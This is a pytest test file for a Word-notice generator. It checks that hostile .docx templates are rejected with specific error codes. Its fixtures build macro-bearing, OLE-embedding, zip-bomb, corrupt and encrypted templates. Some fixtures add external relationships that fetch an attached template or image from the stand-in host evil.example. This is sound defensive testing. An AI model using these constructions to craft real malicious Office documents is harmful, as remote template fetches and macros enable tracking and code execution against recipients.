"""Templates are checked like any other input: no macros, no outside links, no embedded
objects, and the same zip limits as a .docx."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from gongwen import InputError, load_notice
from gongwen.write import render_bytes
from gongwen.write.template import default_template_path
from tests.conftest import EXAMPLES
from tests.hostile.cases import corrupt_member, encrypt_flag, rezip, run_gongwen

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPES = "[Content_Types].xml"


def _template() -> bytes:
    return default_template_path().read_bytes()


def _part(name: str) -> bytes:
    import zipfile

    with zipfile.ZipFile(default_template_path()) as z:
        return z.read(name)


def _with_relationship(part: str, kind: str, target: str, external: bool) -> bytes:
    rels = _part(part)
    mode = b' TargetMode="External"' if external else b""
    extra = (
        f'<Relationship Id="rId99" Type="{REL}/{kind}" Target="{target}"'.encode()
        + mode
        + b"/></Relationships>"
    )
    return rezip(_template(), {part: rels.replace(b"</Relationships>", extra)})


def _settings_rels() -> bytes:
    content = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="' + REL.encode() + b'/attachedTemplate" '
        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return rezip(_template(), {}, extra=(("word/_rels/settings.xml.rels", content),))


CASES: dict[str, tuple[Callable[[], bytes], str]] = {
    "vba-project.docx": (
        lambda: rezip(_template(), {}, extra=(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),)),
        "TP002",
    ),
    "macro-type.docx": (
        lambda: rezip(
            _template(),
            {
                CONTENT_TYPES: _part(CONTENT_TYPES).replace(
                    b"document.main+xml", b"document.macroEnabled.main+xml"
                )
            },
        ),
        "TP002",
    ),
    "remote-image.docx": (
        lambda: _with_relationship(
            "word/_rels/document.xml.rels", "image", "http://evil.example/p.png", True
        ),
        "TP003",
    ),
    "attached-template.docx": (_settings_rels, "TP003"),
    "ole-object.docx": (
        lambda: _with_relationship(
            "word/_rels/document.xml.rels", "oleObject", "embeddings/oleObject1.bin", False
        ),
        "TP004",
    ),
    "embedding.docx": (
        lambda: rezip(_template(), {}, extra=(("word/embeddings/pkg.xlsx", b"PK"),)),
        "TP004",
    ),
    "encrypted.docx": (lambda: encrypt_flag(_template(), "word/styles.xml"), "TP001"),
    "corrupt.docx": (lambda: corrupt_member(_template(), "word/styles.xml"), "TP001"),
    "bomb.docx": (
        lambda: rezip(_template(), {}, extra=(("word/media/big.bin", b"\0" * 4_000_000),)),
        "RD104",
    ),
    "twice.docx": (
        lambda: rezip(_template(), {}, extra=(("word/styles.xml", _part("word/styles.xml")),)),
        "RD103",
    ),
    "not-a-zip.docx": (lambda: b"this is not a template", "TP001"),
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_a_hostile_template_is_refused_with_its_code(tmp_path: Path, name: str) -> None:
    make, code = CASES[name]
    template = tmp_path / name
    template.write_bytes(make())
    with pytest.raises(InputError) as info:
        render_bytes(load_notice(EXAMPLES / "minimal.yaml"), template=template)
    assert {f.code for f in info.value.findings} == {code}


def test_a_docm_template_is_refused_by_its_name(tmp_path: Path) -> None:
    template = tmp_path / "house.docm"
    template.write_bytes(_template())
    with pytest.raises(InputError) as info:
        render_bytes(load_notice(EXAMPLES / "minimal.yaml"), template=template)
    assert {f.code for f in info.value.findings} == {"TP002"}


def test_a_fifo_template_is_refused_at_once(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "t.docx")
    with pytest.raises(InputError, match="FIFO"):
        render_bytes(load_notice(EXAMPLES / "minimal.yaml"), template=tmp_path / "t.docx")


@pytest.mark.parametrize("name", ["vba-project.docx", "remote-image.docx", "corrupt.docx"])
def test_render_with_a_hostile_template_exits_2_with_one_line(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(CASES[name][0]())
    (tmp_path / "m.yaml").write_bytes((EXAMPLES / "minimal.yaml").read_bytes())
    run = run_gongwen("render", "m.yaml", "--template", name, "-o", "out.docx", cwd=tmp_path)
    assert run.returncode == 2
    lines = [line for line in run.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and CASES[name][1] in lines[0], run.stderr
    assert not (tmp_path / "out.docx").exists()
